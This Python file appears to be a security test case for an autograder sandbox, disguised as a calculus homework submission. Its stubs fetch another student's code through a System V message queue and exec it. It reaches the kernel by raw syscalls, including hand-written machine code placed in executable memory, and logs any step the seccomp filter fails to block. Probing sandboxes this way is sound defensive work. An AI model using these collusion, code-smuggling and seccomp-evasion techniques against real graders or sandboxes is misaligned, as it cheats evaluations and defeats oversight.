"""probe_a case cc_sysv_msg_reader (collusion, native): hw2_compgraph calculus.py.

Reader polls ~3 s for the same key and execs what a System V message queue (msgget/msgsnd) holds.
The reader holds no correct code (starter stubs), so it can only score with the writer's code:
max_total 0. Its attempt is refused, hence sandbox: "a worker killed by SIGSYS, a refusal by the
kernel, a process left behind, or a report pipe tampered with sets the row's status to sandbox ...,
as does a refused attempt by the student's own code".

This module holds NO correct code: every graded function answers only with code fetched from another submission (or the grader's files) through the channel.
"""

import numpy as np

# ---- probe_a prelude: attack bookkeeping, never raises ----
import os as _pa_os
import sys as _pa_sys
import time as _pa_time

_PA_CASE = 'cc_sysv_msg_reader'
_PA_LOG = []
_PA_BREACHES = []
_PA_KEEP = []


def _pa_note(label, status, detail=""):
    try:
        _PA_LOG.append((round(_pa_time.monotonic(), 3), str(label), status, str(detail)[:300]))
    except BaseException:
        pass


def _pa_breach(what):
    """A step the documentation says is refused has succeeded."""
    _PA_BREACHES.append(str(what))
    _pa_note("BREACH", "breach", what)
    try:
        fh = open(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"), "a")
        try:
            fh.write("%s: %s\n" % (_PA_CASE, what))
        finally:
            fh.close()
    except BaseException:
        pass


def _pa_spoiled():
    if _PA_BREACHES:
        return True
    try:
        for _n, _m in list(_pa_sys.modules.items()):
            if _n.endswith(("calculus", "compgraph")) and getattr(_m, "_PA_BREACHES", None):
                return True
    except BaseException:
        pass
    try:
        return _pa_os.path.exists(_pa_os.path.join(_pa_os.getcwd(), "probe_a_BREACH"))
    except BaseException:
        return False


def _pa_try(label, fn, *args, **kwargs):
    """Run one attack step; a refusal (any exception) is logged and swallowed."""
    try:
        r = fn(*args, **kwargs)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return e
    _pa_note(label, "ok", repr(r)[:200])
    return r


def _pa_ok(r):
    return not isinstance(r, BaseException)


_PA_TMP_ROOTS = ("/tmp", "/var/tmp", "/dev/shm")


def _pa_safe_dir(p):
    """True only for folders strictly inside /tmp, /var/tmp or /dev/shm (grader-made
    temporary folders): the only places a destructive step is ever aimed at."""
    try:
        rp = _pa_os.path.realpath(p)
    except BaseException:
        return False
    for root in _PA_TMP_ROOTS:
        if rp.startswith(root + "/"):
            rest = rp[len(root) + 1:]
            first = rest.split("/")[0]
            if rest and not first.startswith(("probe_brief", "bash_jobs", ".X11", "systemd")):
                return True
    return False


def _pa_deadline(seconds):
    end = _pa_time.monotonic() + seconds
    return lambda: _pa_time.monotonic() < end

_PA_SC = []


def _pa_s64(v):
    v = int(v) & 0xFFFFFFFFFFFFFFFF
    return v - (1 << 64) if v >> 63 else v


def _pa_sc():
    """A callable sc(nr, *args) -> raw result (negative errno on failure)."""
    if _PA_SC:
        if _PA_SC[0] is None:
            raise RuntimeError("probe_a: no native route")
        return _PA_SC[0]
    import ctypes

    def from_fn(fn, label, with_errno):
        fn.restype = ctypes.c_long

        def sc(nr, *args):
            r = fn(ctypes.c_long(_pa_s64(nr)), *[ctypes.c_long(_pa_s64(a)) for a in args])
            if r == -1 and with_errno:
                return -ctypes.get_errno()
            return r
        sc.route = label
        return sc

    # PyDLL / PYFUNCTYPE keep the GIL during the call, so a clone() child is never left
    # waiting for a GIL that some other thread held at the moment of the fork.
    for name in (None, "libc.so.6"):
        try:
            lib = ctypes.PyDLL(name, use_errno=True)
            sc = from_fn(lib.syscall, "PyDLL(%r).syscall" % (name,), True)
            _PA_SC.append(sc)
            _pa_note("native route", "ok", sc.route)
            return sc
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            _pa_note("native CDLL(%r)" % (name,), "refused", repr(e))
    try:
        sc = from_fn(ctypes.pythonapi.syscall, "pythonapi.syscall", False)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native pythonapi", "refused", repr(e))
    try:
        import mmap
        code = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3")
        buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(code)
        cbuf = ctypes.c_char.from_buffer(buf)
        raw = ctypes.PYFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 7))(ctypes.addressof(cbuf))

        def sc(nr, *args):
            a = [_pa_s64(x) for x in args] + [0] * (6 - len(args))
            return raw(_pa_s64(nr), *a)
        sc.route = "machine code"
        sc.keep = (buf, cbuf, raw)
        _PA_SC.append(sc)
        _pa_note("native route", "ok", sc.route)
        return sc
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note("native machine code", "refused", repr(e))
    _PA_SC.append(None)
    raise RuntimeError("probe_a: no native route")


def _pa_scall(label, nr, *args, mode="kill"):
    """One raw syscall.  mode "kill": the docs say seccomp kills the worker on it, so
    returning at all is a breach; "success": only a result >= 0 is a breach; "none"."""
    try:
        sc = _pa_sc()
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "no native route", repr(e))
        return None
    try:
        r = sc(nr, *args)
    except KeyboardInterrupt:
        raise
    except BaseException as e:
        _pa_note(label, "refused", repr(e))
        return None
    _pa_note(label, "returned", r)
    if mode == "kill":
        _pa_breach("%s returned %r (%s): the seccomp filter did not kill the worker" % (label, r, sc.route))
    elif mode == "success" and r is not None and r >= 0:
        _pa_breach("%s succeeded with %r (%s)" % (label, r, sc.route))
    return r


def _pa_cbuf(data_or_size):
    import ctypes
    if isinstance(data_or_size, int):
        b = ctypes.create_string_buffer(data_or_size)
    else:
        b = ctypes.create_string_buffer(bytes(data_or_size), len(data_or_size) + 1)
    _PA_KEEP.append(b)
    return b, ctypes.addressof(b)

_PA_MODULE = 'calculus'
_PA_NAMES = ['grad_f', 'jacobian_F', 'G', 'jacobian_FG', 'numerical_gradient', 'numerical_jacobian']
_PA_GOT = {}
_PA_SPENT = [0.0]


def _pa_accept(blob):
    """blob: the writer's payload (base64 of zlib of a JSON {module: source}), or a dict
    {module: whole module source} found on disk; exec our module's part."""
    import base64
    import json
    import zlib
    if isinstance(blob, dict):
        d = blob
    else:
        if isinstance(blob, str):
            blob = blob.encode()
        d = json.loads(zlib.decompress(base64.b64decode(blob.strip())).decode())
    src = d.get(_PA_MODULE)
    if not src:
        return False
    if "raise NotImplementedError" in src or "_pa_call(" in src:
        return False
    ns = {"np": np, "__name__": "probe_a_borrowed_" + _PA_MODULE}
    exec(compile(src, "<probe_a borrowed %s>" % _PA_MODULE, "exec"), ns)
    if not all(callable(ns.get(n)) for n in _PA_NAMES):
        return False
    _PA_GOT.update((n, ns[n]) for n in _PA_NAMES)
    _pa_note("accept", "ok", "borrowed %d functions" % len(_PA_NAMES))
    return True


def _pa_poll(budget):
    """Poll the channel for up to `budget` seconds (order of grading is not guaranteed)."""
    t0 = _pa_time.monotonic()
    end = t0 + budget
    try:
        while True:
            try:
                blob = _pa_fetch_once()
            except KeyboardInterrupt:
                raise
            except BaseException as e:
                _pa_note("fetch", "refused", repr(e))
                blob = None
            if blob:
                try:
                    if _pa_accept(blob):
                        return True
                except KeyboardInterrupt:
                    raise
                except BaseException as e:
                    _pa_note("accept", "error", repr(e))
            if _pa_time.monotonic() >= end:
                return False
            _pa_time.sleep(0.1)
    finally:
        _PA_SPENT[0] += _pa_time.monotonic() - t0


def _pa_call(name, *args, **kwargs):
    if not _PA_GOT and _PA_SPENT[0] < 3.5:
        _pa_poll(min(0.5, 3.5 - _PA_SPENT[0]))
    f = _PA_GOT.get(name)
    if f is None:
        raise NotImplementedError("probe_a reader %s holds no code for %s and the channel gave nothing"
                                  % (_PA_CASE, name))
    return f(*args, **kwargs)


# ---- probe_a channel ----
def _pa_fetch_once():
    import ctypes
    qid = _pa_scall("msgget", 68, 1885405188, 0)
    if qid is None or qid < 0:
        return None
    buf, addr = _pa_cbuf(8 + 8192)

    def take(mtype):
        n = _pa_scall("msgrcv %d" % mtype, 70, qid, addr, 8192, mtype, 0o4000, mode="none")
        if n is None or n < 0:
            return None
        body = ctypes.string_at(addr + 8, n)
        _pa_scall("msgsnd back", 69, qid, addr, n, 0o4000, mode="none")  # put it back for others
        return body
    head = take(1)
    if not head:
        return None
    parts = []
    for i in range(int(head)):
        p = take(i + 2)
        if p is None:
            return None
        parts.append(p)
    return b"".join(parts)


def grad_f(x, y):
    """Gradient of f (reader stub: answers only with borrowed code)."""
    return _pa_call("grad_f", x, y)


def jacobian_F(x, y):
    """Jacobian of F (reader stub)."""
    return _pa_call("jacobian_F", x, y)


def G(x):
    """G(x) = [x, x^2] (reader stub)."""
    return _pa_call("G", x)


def jacobian_FG(x):
    """D(F o G)(x) (reader stub)."""
    return _pa_call("jacobian_FG", x)


def numerical_gradient(f, x, eps=1e-6):
    """Central differences (reader stub)."""
    return _pa_call("numerical_gradient", f, x, eps)


def numerical_jacobian(F, x, eps=1e-6):
    """Central-difference Jacobian (reader stub)."""
    return _pa_call("numerical_jacobian", F, x, eps)


_pa_poll(2.5)
